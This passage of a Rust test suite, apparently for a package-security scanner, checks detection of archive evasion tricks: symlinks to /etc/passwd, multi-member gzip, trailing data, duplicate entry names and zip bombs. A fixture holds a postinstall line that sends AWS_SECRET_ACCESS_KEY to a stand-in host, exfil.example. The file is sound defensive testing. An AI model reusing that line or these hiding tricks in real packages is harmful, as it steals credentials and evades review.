    let outside = write(dir.path(), "outside.js", b"process.env.OUTSIDE_TOKEN");
    let outside_dir = dir.path().join("outside-dir");
    fs_err::create_dir_all(&outside_dir).unwrap();
    write(&outside_dir, "x.js", b"process.env.OUTSIDE_DIR_TOKEN");
    let root = dir.path().join("pkg");
    fs_err::create_dir_all(&root).unwrap();
    write(&root, "cli.js", CLI_JS);
    std::os::unix::fs::symlink(&outside, root.join("link.js")).unwrap();
    std::os::unix::fs::symlink(&outside_dir, root.join("linked-dir")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", root.join("passwd")).unwrap();

    let report = scan_path(&scanner(), &root).unwrap();
    for link in ["link.js", "linked-dir", "passwd"] {
        let why = reason(&report, link);
        assert!(why.starts_with("a symbolic link to "), "{why}");
        assert!(
            why.ends_with("; links inside a directory are not followed"),
            "{why}"
        );
    }
    assert_eq!(files(&report), ["cli.js"]);
    assert!(env_files(&report, "OUTSIDE_TOKEN").is_empty());
    assert!(env_files(&report, "OUTSIDE_DIR_TOKEN").is_empty());
}

// --- Multi-member gzip: `cat a.gz b.gz` is one stream to gzip -d, tar and Node's zlib.

/// What the second member of the hostile tarball hides.
const POSTINSTALL_JS: &[u8] = b"fetch(\"https://exfil.example/collect\",{method:\"POST\",\
body:process.env.AWS_SECRET_ACCESS_KEY});\n";

/// An npm tarball whose tar stream is split across two gzip members: the first holds
/// `package/index.js` (and no end-of-archive marker), the second `package/postinstall.js`
/// and the marker.
fn two_member_tgz() -> Vec<u8> {
    let tar = tar_bytes(&[
        ("package/index.js", b"module.exports = 42;\n".to_vec()),
        ("package/postinstall.js", POSTINSTALL_JS.to_vec()),
    ]);
    // One header block and one data block: the whole of package/index.js.
    let (first, second) = tar.split_at(1024);
    [gzip(first), gzip(second)].concat()
}

#[test]
fn a_multi_member_tgz_is_read_to_its_last_member() {
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();
    let report = scan_path(&scanner, &write(dir.path(), "x.tgz", &two_member_tgz())).unwrap();
    assert_eq!(
        files(&report),
        ["x.tgz!package/index.js", "x.tgz!package/postinstall.js"]
    );
    assert_eq!(report.files[0].size, 21);
    let found = |kind: Kind, value: &str| {
        report
            .indicators
            .iter()
            .filter(|i| i.kind == kind && i.value == value)
            .map(|i| i.evidence.file.as_str())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        found(Kind::Url, "https://exfil.example/collect"),
        ["x.tgz!package/postinstall.js"]
    );
    assert_eq!(
        found(Kind::EnvVar, "AWS_SECRET_ACCESS_KEY"),
        ["x.tgz!package/postinstall.js"]
    );
    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);

    // A gzip-compressed file of several members is the members' contents in order, as
    // `gzip -dc` prints it.
    let js = [gzip(b"const a = 1;\n"), gzip(POSTINSTALL_JS)].concat();
    let report = scan_path(&scanner, &write(dir.path(), "cli.js.gz", &js)).unwrap();
    assert_eq!(files(&report), ["cli.js.gz!cli.js"]);
    assert_eq!(report.files[0].size, 13 + POSTINSTALL_JS.len() as u64);
    assert_eq!(
        env_files(&report, "AWS_SECRET_ACCESS_KEY"),
        ["cli.js.gz!cli.js"]
    );
}

#[test]
fn trailing_garbage_after_the_last_gzip_member_is_reported_with_its_offset() {
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();
    let tgz = two_member_tgz();
    let garbage = b"not gzip: process.env.HIDDEN_AFTER_THE_TRAILER";
    let bytes = [tgz.as_slice(), garbage].concat();
    let report = scan_path(&scanner, &write(dir.path(), "x.tgz", &bytes)).unwrap();
    assert_eq!(
        files(&report),
        ["x.tgz!package/index.js", "x.tgz!package/postinstall.js"]
    );
    assert_eq!(
        report.skipped,
        [candor_scan::Skipped {
            path: "x.tgz".to_owned(),
            reason: format!(
                "trailing data after the last gzip member: {} bytes at offset {}, not scanned",
                garbage.len(),
                tgz.len()
            ),
        }]
    );
    assert!(env_files(&report, "HIDDEN_AFTER_THE_TRAILER").is_empty());

    // After a single compressed file too; zero padding is trailing data as well.
    let bytes = [gzip(CLI_JS).as_slice(), &[0u8; 512]].concat();
    let report = scan_path(&scanner, &write(dir.path(), "cli.js.gz", &bytes)).unwrap();
    assert_eq!(env_files(&report, "ACME_TOKEN"), ["cli.js.gz!cli.js"]);
    assert_eq!(
        reason(&report, "cli.js.gz"),
        format!(
            "trailing data after the last gzip member: 512 bytes at offset {}, not scanned",
            bytes.len() - 512
        )
    );

    // Another member that starts right but is broken is a corrupt stream, not trailing
    // data: `gzip -d` fails on it too.
    let bytes = [
        tgz.as_slice(),
        &[0x1f, 0x8b, 0x07, 0, 0, 0, 0, 0, 0, 0xff, 1, 2, 3],
    ]
    .concat();
    let report = scan_path(&scanner, &write(dir.path(), "y.tgz", &bytes)).unwrap();
    assert_eq!(files(&report).len(), 2);
    assert!(
        reason(&report, "y.tgz")
            .starts_with("corrupt gzip stream after entry package/postinstall.js"),
        "{:#?}",
        report.skipped
    );
}

#[test]
fn many_small_gzip_members_are_held_to_the_limits_together() {
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();
    // 40 entries of 16 KiB, each in a gzip member of its own: 640 KiB in all, each member
    // far within any limit.
    let names: Vec<String> = (0..40).map(|i| format!("package/{i:02}.js")).collect();
    let entries: Vec<(&str, Vec<u8>)> = names
        .iter()
        .zip(0u64..)
        .map(|(name, seed)| (name.as_str(), noise(16 << 10, seed)))
        .collect();
    let tar = tar_bytes(&entries);
    let per_entry = 512 + (16 << 10);
    let mut tgz: Vec<u8> = tar[..tar.len() - 1024]
        .chunks(per_entry)
        .flat_map(gzip)
        .collect();
    tgz.extend(gzip(&tar[tar.len() - 1024..]));
    let path = write(dir.path(), "members.tgz", &tgz);

    let report = scan_path(&scanner, &path).unwrap();
    assert_eq!(files(&report).len(), 40, "{:#?}", report.skipped);
    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);

    let small_total = ArchiveLimits {
        max_total_size: 256 << 10,
        ..ArchiveLimits::default()
    };
    let report = scan_path_with(&scanner, &path, &small_total).unwrap();
    assert_eq!(files(&report).len(), 16);
    assert_eq!(
        reason(&report, "members.tgz!package/16.js"),
        "the archive exceeds the 256 KiB limit on total decompressed size; the rest is not scanned"
    );
    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);

    // 64 members of 1 MiB of zeros each, about 1 KiB compressed: the ratio of the whole
    // stream stops them, whichever member crosses it.
    let zeros = gzip(&vec![0u8; 1 << 20]);
    let bomb = zeros.repeat(64);
    let started = Instant::now();
    let report = scan_path(&scanner, &write(dir.path(), "zeros.bin.gz", &bomb)).unwrap();
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    assert!(report.files.is_empty(), "{:#?}", report.files);
    assert!(
        reason(&report, "zeros.bin.gz!zeros.bin").starts_with("compression ratio above 200:1"),
        "{:#?}",
        report.skipped
    );
    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
}

// --- Duplicate paths: one archive, two entries with one path. A tool that reads an entry
// by name sees one of them, an installer that extracts them all keeps the last.

/// The `duplicate-entry` indicators, as (value, file).
fn duplicates(report: &ScanReport) -> Vec<(&str, &str)> {
    report
        .indicators
        .iter()
        .filter(|i| i.kind == Kind::DuplicateEntry)
        .map(|i| (i.value.as_str(), i.evidence.file.as_str()))
        .collect()
}

/// Raw deflate of `bytes`, final.
fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

#[test]
fn duplicate_names_in_a_zip_are_each_scanned_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();
    let second = b"process.env.SECOND_A";
    let zip = raw_zip(&[
        stored("a.js", b"process.env.FIRST_A"),
        stored("package/dist/cli.js", CLI_JS),
        RawEntry {
            name: "a.js",
            method: 8,
            crc: crc32(second),
            data: deflate(second),
            size: u32::try_from(second.len()).unwrap(),
        },
        stored("a.js", b"process.env.THIRD_A"),
        // Another spelling of the same path: one file once extracted.
        stored("./package/dist/cli.js", b"process.env.DOT_SLASH"),
    ]);
    let report = scan_path(&scanner, &write(dir.path(), "x.zip", &zip)).unwrap();
    assert_eq!(
        files(&report),
        [
            "x.zip!a.js",
            "x.zip!package/dist/cli.js",
            "x.zip!a.js (occurrence 2)",
            "x.zip!a.js (occurrence 3)",
            "x.zip!package/dist/cli.js (occurrence 2)",
        ]
    );
    assert_eq!(env_files(&report, "FIRST_A"), ["x.zip!a.js"]);
    assert_eq!(
        env_files(&report, "SECOND_A"),
        ["x.zip!a.js (occurrence 2)"]
    );
    assert_eq!(env_files(&report, "THIRD_A"), ["x.zip!a.js (occurrence 3)"]);
    assert_eq!(
        env_files(&report, "DOT_SLASH"),
        ["x.zip!package/dist/cli.js (occurrence 2)"]
    );
    assert_eq!(
        duplicates(&report),
        [
            ("a.js", "x.zip!a.js (occurrence 2)"),
            ("a.js", "x.zip!a.js (occurrence 3)"),
            (
                "package/dist/cli.js",
                "x.zip!package/dist/cli.js (occurrence 2)"
            ),
        ]
    );
    let duplicate = report
        .indicators
        .iter()
        .find(|i| i.kind == Kind::DuplicateEntry)
        .unwrap();
    assert_eq!(duplicate.category.as_str(), "obfuscation");
    assert!(
        duplicate
            .evidence
            .excerpt
            .starts_with("entry 2 with the path a.js in x.zip"),
        "{duplicate:#?}"
    );
    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);

    // Behind a self-extractor's stub (offsets counted from the end of the stub), alike.
    let sfx = [&b"#!/bin/sh\nexec unzip \"$0\"\n"[..], &zip].concat();
    let report = scan_path(&scanner, &write(dir.path(), "sfx.zip", &sfx)).unwrap();
    assert_eq!(files(&report).len(), 5, "{:#?}", report.skipped);
    assert_eq!(
        env_files(&report, "THIRD_A"),
        ["sfx.zip!a.js (occurrence 3)"]
    );
    assert_eq!(duplicates(&report).len(), 3);
    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
}

#[test]
fn a_duplicate_name_hiding_an_archive_is_opened_under_its_own_name() {
    let dir = tempfile::tempdir().unwrap();
    let clean = gzip(&tar_bytes(&[("package/index.js", b"1;\n".to_vec())]));
    let hostile = gzip(&tar_bytes(&[("package/dist/cli.js", CLI_JS.to_vec())]));
    let zip = raw_zip(&[
        stored("agent.tgz", &clean),
        stored("agent.tgz", &hostile),
        stored("cli.js.gz", &gzip(b"1;\n")),
        stored("cli.js.gz", &gzip(CLI_JS)),
    ]);
    let report = scan_path(&scanner(), &write(dir.path(), "bundle.zip", &zip)).unwrap();
    assert_eq!(
        env_files(&report, "ACME_TOKEN"),
        [
            "bundle.zip!agent.tgz (occurrence 2)!package/dist/cli.js",
            "bundle.zip!cli.js.gz (occurrence 2)!cli.js"
        ]
    );
    assert_eq!(
        duplicates(&report),
        [
            ("agent.tgz", "bundle.zip!agent.tgz (occurrence 2)"),
            ("cli.js.gz", "bundle.zip!cli.js.gz (occurrence 2)"),
        ]
    );
}

#[test]
fn duplicate_paths_in_a_tar_are_each_scanned_and_reported() {
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();
    let mut builder = tar::Builder::new(Vec::new());
    for (path, data) in [
        ("package/a.js", &b"process.env.FIRST_A"[..]),
        ("package/dist/cli.js", CLI_JS),
        ("./package/a.js", b"process.env.SECOND_A"),
    ] {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, path, data).unwrap();
    }
    // Then a link in its place: extracting it replaces the file.
    let mut header = tar::Header::new_gnu();
    header.set_entry_type(tar::EntryType::Symlink);
    header.set_size(0);
    builder
        .append_link(&mut header, "package/a.js", "/etc/passwd")
        .unwrap();
    let tar = builder.into_inner().unwrap();
    for (name, bytes) in [("x.tar", tar.clone()), ("x.tgz", gzip(&tar))] {
        let report = scan_path(&scanner, &write(dir.path(), name, &bytes)).unwrap();
        assert_eq!(
            files(&report),
            [
                format!("{name}!package/a.js"),
                format!("{name}!package/dist/cli.js"),
                format!("{name}!package/a.js (occurrence 2)"),
            ]
        );
        assert_eq!(
            env_files(&report, "FIRST_A"),
            [format!("{name}!package/a.js")]
        );
        assert_eq!(
            env_files(&report, "SECOND_A"),
            [format!("{name}!package/a.js (occurrence 2)")]
        );
        assert_eq!(
            reason(&report, &format!("{name}!package/a.js (occurrence 3)")),
            "link entry, never followed (symbolic link to /etc/passwd)"
        );
        assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
        let expected: Vec<(&str, String)> = (2..=3)
            .map(|k| {
                (
                    "package/a.js",
                    format!("{name}!package/a.js (occurrence {k})"),
                )
            })
            .collect();
        let found: Vec<(&str, String)> = duplicates(&report)
            .into_iter()
            .map(|(v, f)| (v, f.to_owned()))
            .collect();
        assert_eq!(found, expected);
    }
}

#[test]
fn a_zip_read_from_its_local_headers_reports_duplicates_too() {
    let dir = tempfile::tempdir().unwrap();
    let zip = raw_zip(&[
        stored("a.js", b"process.env.FIRST_A"),
        stored("a.js", b"process.env.SECOND_A"),
    ]);
    // Without its end record, the central directory cannot be found.
    let cut = &zip[..zip.len() - 22];
    let report = scan_path(&scanner(), &write(dir.path(), "x.zip", cut)).unwrap();
    assert!(
        reason(&report, "x.zip").starts_with("corrupt zip central directory"),
        "{:#?}",
        report.skipped
    );
    assert_eq!(files(&report), ["x.zip!a.js", "x.zip!a.js (occurrence 2)"]);
    assert_eq!(duplicates(&report), [("a.js", "x.zip!a.js (occurrence 2)")]);
}

#[test]
fn data_after_the_tar_end_of_archive_marker_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let scanner = scanner();
    let first = tar_bytes(&[("package/index.js", b"module.exports = 42;\n".to_vec())]);
    let second = tar_bytes(&[("package/postinstall.js", POSTINSTALL_JS.to_vec())]);
    // `cat a.tar b.tar`: the reader stops at the first archive's marker.
    let tar = [first.as_slice(), &second].concat();
    let report = scan_path(&scanner, &write(dir.path(), "x.tar", &tar)).unwrap();
    assert_eq!(files(&report), ["x.tar!package/index.js"]);
    let reason_for = |len: usize, at: usize, of: &str| {
        format!(
            "data after the end-of-archive marker: {len} bytes at offset {at}{of}, not scanned \
             (tar readers that read on past a zero block may extract it)"
        )
    };
    assert_eq!(
        reason(&report, "x.tar"),
        reason_for(second.len(), first.len(), "")
    );
    // `cat a.tgz b.tgz` alike, the offset in the decompressed stream.
    let tgz = [gzip(&first), gzip(&second)].concat();
    let report = scan_path(&scanner, &write(dir.path(), "x.tgz", &tgz)).unwrap();
    assert_eq!(files(&report), ["x.tgz!package/index.js"]);
    assert_eq!(
        reason(&report, "x.tgz"),
        reason_for(second.len(), first.len(), " of the decompressed stream")
    );
    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);

    // One zero block between two entries ends the archive here; what follows is listed.
    let lone = [&first[..1024], &[0u8; 512], &second[..]].concat();
    let report = scan_path(&scanner, &write(dir.path(), "lone.tar", &lone)).unwrap();
    assert_eq!(files(&report), ["lone.tar!package/index.js"]);
    assert_eq!(
        reason(&report, "lone.tar"),
        reason_for(second.len(), 1536, "")
    );

    // Zero padding to a whole record is no data.
    let padded = [first.as_slice(), &[0u8; 8192]].concat();
    for (name, bytes) in [
        ("padded.tar", padded.clone()),
        ("padded.tgz", gzip(&padded)),
    ] {
        let report = scan_path(&scanner, &write(dir.path(), name, &bytes)).unwrap();
        assert!(report.skipped.is_empty(), "{name}: {:#?}", report.skipped);
    }
}
